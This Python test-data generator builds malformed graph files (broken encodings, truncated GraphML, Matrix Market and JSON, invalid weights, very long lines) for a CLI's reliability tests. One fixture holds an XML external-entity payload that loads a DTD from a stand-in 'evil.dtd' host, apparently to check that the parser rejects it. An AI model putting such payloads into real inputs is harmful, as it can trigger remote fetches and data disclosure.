"""Write the bad inputs added for the reliability tests into tests/data/bad/ (deterministic).

Run: ``python tests/reliability/make_reliability_bad_inputs.py [OUTPUT_FOLDER]``
(default: tests/data/bad). Each file carries one defect; the table in
tests/reliability/test_reliability_bad_inputs.py says what the CLI must answer.
The files of tests/data/make_samples.py are not touched. Inputs too large to keep
in the repository (very long lines) are built by the tests into a temporary folder
with :func:`large_bad_inputs`.
"""

from __future__ import annotations

import codecs
import gzip
import json
import random
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
DEFAULT_OUT = HERE.parent / "data" / "bad"

_GRAPHML_HEAD = (b'<?xml version="1.0" encoding="utf-8"?>\n'
                 b'<graphml xmlns="http://graphml.graphdrawing.org/xmlns">\n'
                 b'  <key id="w" for="edge" attr.name="weight" attr.type="double"/>\n'
                 b'  <graph edgedefault="undirected">\n')


def _garbage(seed: int, size: int) -> bytes:
    """Seeded random bytes (binary garbage that never starts with the gzip magic 1f 8b)."""
    data = random.Random(seed).randbytes(size)
    return data if not data.startswith(b"\x1f\x8b") else b"\x00" + data[1:]


def _truncated_json() -> bytes:
    doc = json.dumps({"directed": False, "multigraph": False, "graph": {},
                      "nodes": [{"id": "a"}, {"id": "b"}, {"id": "c"}],
                      "links": [{"source": "a", "target": "b", "weight": 1.0},
                                {"source": "b", "target": "c", "weight": 2.0}]}, indent=1).encode()
    return doc[: doc.index(b'"target": "c"') + 5]  # cut inside a string on a later line


def _damaged_gzip() -> bytes:
    whole = gzip.compress(b"".join(b"n%d,n%d\n" % (i, i + 1) for i in range(2000)), mtime=0)
    return whole[: len(whole) // 2]


BAD_FILES: dict[str, bytes] = {
    # --- byte-order marks and encodings ---------------------------------------------------------
    # a spreadsheet's "Unicode text": UTF-16 LE with its BOM (ff fe), not UTF-8
    "utf16_with_bom.csv": codecs.BOM_UTF16_LE + "source,target\na,b\nb,c\n".encode("utf-16-le"),
    # a UTF-8 BOM is dropped, so the bad weight is still reported on its own line (3)
    "bom_bad_weight.csv": codecs.BOM_UTF8 + b"source,target,weight\na,b,1\nb,c,x\n",
    # two BOM-prefixed files concatenated: the second BOM sits at the start of line 3
    "bom_concatenated.csv": codecs.BOM_UTF8 + b"a,b\nb,c\n" + codecs.BOM_UTF8 + b"c,d\n",
    # --- ids with '#', tabs or spaces where the format cannot hold them ----------------------------
    "hash_in_id.csv": b"source,target\nc#1,d\n",  # imported with --comment '#': line 2 loses a field
    "space_in_id.txt": b"a b\nnew york boston\n",  # whitespace-separated: 'new york' is two fields
    "tab_in_id.tsv": b"a\tb\nb\tc\nx\ty\tz\n",  # TSV has no quoting: 'x<tab>y' is two fields
    # --- self-loops only ----------------------------------------------------------------------------
    "self_loops_only.csv": b"a,a\nb,b\nc,c\n",
    "self_loops_only.graphml": _GRAPHML_HEAD + (
        b'    <edge source="a" target="a"><data key="w">1</data></edge>\n'
        b'  </graph>\n</graphml>\n'),
    # --- binary garbage -------------------------------------------------------------------------------
    "garbage.csv": _garbage(1, 4096),
    "garbage.graphml": _garbage(2, 4096),
    "garbage.mtx": b"\x89PNG\r\n\x1a\n" + _garbage(3, 1024),
    "garbage.json": _garbage(4, 4096),
    "damaged.csv.gz": _damaged_gzip(),
    "nul_in_id.csv": b"a,b\nc\x00,d\n",
    # --- GraphML ---------------------------------------------------------------------------------------
    "truncated.graphml": _GRAPHML_HEAD + (
        b'    <edge source="a" target="b"><data key="w">1</data></edge>\n'
        b'    <edge source="b" targ'),
    "nan_weight.graphml": _GRAPHML_HEAD + (
        b'    <edge source="a" target="b"><data key="w">1</data></edge>\n'
        b'    <edge source="b" target="c"><data key="w">NaN</data></edge>\n'
        b'  </graph>\n</graphml>\n'),
    "parameter_entity.graphml": (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE graphml [\n'
        b' <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd">\n'
        b' %remote;\n'
        b']>\n'
        b'<graphml xmlns="http://graphml.graphdrawing.org/xmlns">\n'
        b' <graph edgedefault="undirected"><edge source="a" target="b"/></graph>\n'
        b'</graphml>\n'),
    "empty.graphml": b"",
    # --- Matrix Market -------------------------------------------------------------------------------------
    "truncated.mtx": (b"%%MatrixMarket matrix coordinate real general\n"
                      b"3 3 3\n"
                      b"1 2 1.0\n"
                      b"2 3 1.0\n"),
    "truncated_banner.mtx": b"%%MatrixMarket matrix coord",
    "not_square_array.mtx": (b"%%MatrixMarket matrix array real general\n"
                             b"2 3\n1\n2\n3\n4\n5\n6\n"),
    "index_out_of_range.mtx": (b"%%MatrixMarket matrix coordinate real general\n"
                               b"2 2 2\n"
                               b"1 2 1.0\n"
                               b"3 1 1.0\n"),
    "infinite_weight.mtx": (b"%%MatrixMarket matrix coordinate real symmetric\n"
                            b"3 3 2\n"
                            b"2 1 1.0\n"
                            b"3 2 inf\n"),
    "all_zero_weights.mtx": (b"%%MatrixMarket matrix coordinate real symmetric\n"
                             b"3 3 2\n"
                             b"2 1 0\n"
                             b"3 2 0.0\n"),
    # --- node-link JSON -----------------------------------------------------------------------------------
    "wrong_shape_list.json": b"[[\"a\", \"b\"], [\"b\", \"c\"]]\n",
    "wrong_shape_nodes.json": b'{"nodes": 5, "links": []}\n',
    "links_not_objects.json": b'{"nodes": [], "links": [["a", "b"]]}\n',
    "truncated.json": _truncated_json(),
    "negative_weight.json": (b'{"nodes": [], "links": [{"source": "a", "target": "b", "weight": 1},\n'
                             b' {"source": "b", "target": "c", "weight": -1}]}\n'),
    "asymmetric.json": (b'{"directed": true, "nodes": [{"id": "a"}, {"id": "b"}, {"id": "c"}],\n'
                        b' "links": [{"source": "a", "target": "b"}, {"source": "b", "target": "c"}]}\n'),
    # --- delimited, other layouts --------------------------------------------------------------------------
    "header_only.tsv": b"source\ttarget\tweight\n",
    "nonnumeric_weight.txt": b"a b 1\nb c two\n",
    "wrong_columns.tsv": b"a\tb\t1\nb\tc\n",
}


def large_bad_inputs(folder: Path) -> dict[str, Path]:
    """Very long lines, built on demand (megabytes; not kept in the repository).

    ``long_record.csv``: line 2 holds one million fields (2 MB);
    ``long_first_line.csv``: line 1 holds a 5 MB node id, line 2 a normal record;
    ``long_second_line.csv``: line 2 holds a 20 MB node id.
    """
    folder.mkdir(parents=True, exist_ok=True)
    files = {
        "long_record.csv": b"a,b\n" + b",".join([b"c"] * 1_000_000) + b"\n",
        "long_first_line.csv": b"a," + b"x" * 5_000_000 + b"\nb,c\n",
        "long_second_line.csv": b"b,c\na," + b"x" * 20_000_000 + b"\n",
    }
    out = {}
    for name, data in files.items():
        (folder / name).write_bytes(data)
        out[name] = folder / name
    return out


def write_all(folder: Path = DEFAULT_OUT) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in BAD_FILES.items():
        (folder / name).write_bytes(content)


if __name__ == "__main__":
    write_all(Path(sys.argv[1]) if len(sys.argv) > 1 else DEFAULT_OUT)
